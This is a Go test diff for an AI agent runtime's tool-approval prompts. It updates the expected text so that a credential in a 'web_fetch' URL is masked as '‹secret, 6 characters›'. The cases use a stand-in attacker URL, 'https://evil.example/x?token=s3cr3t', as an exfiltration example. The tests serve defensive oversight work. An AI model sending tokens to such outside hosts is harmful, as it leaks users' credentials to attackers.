@@ -49,7 +49,7 @@ func TestStockWrappedCalls(t *testing.T) {
 			"Current agent requested tool 'write' → device 'web_fetch' to fetch 'https://evil.example/x'. Allow this call?",
 			runtime.TierNetwork},
 		{"device write with credentials in the URL", "write", device("web_fetch", `{"url":"https://evil.example/x?token=s3cr3t"}`),
-			"Current agent requested tool 'write' → device 'web_fetch' to fetch 'https://evil.example/x?token=…' (hidden credentials: 'token'). Allow this call?",
+			"Current agent requested tool 'write' → device 'web_fetch' to fetch 'https://evil.example/x?token=‹secret, 6 characters›' (hidden credentials: 'token'). Allow this call?",
 			runtime.TierNetwork},
 		{"device docs", "read", `{"path":"xd://web_fetch"}`,
 			"Current agent requested tool 'read' for the docs of device 'web_fetch'. Allow this call?", runtime.TierRead},
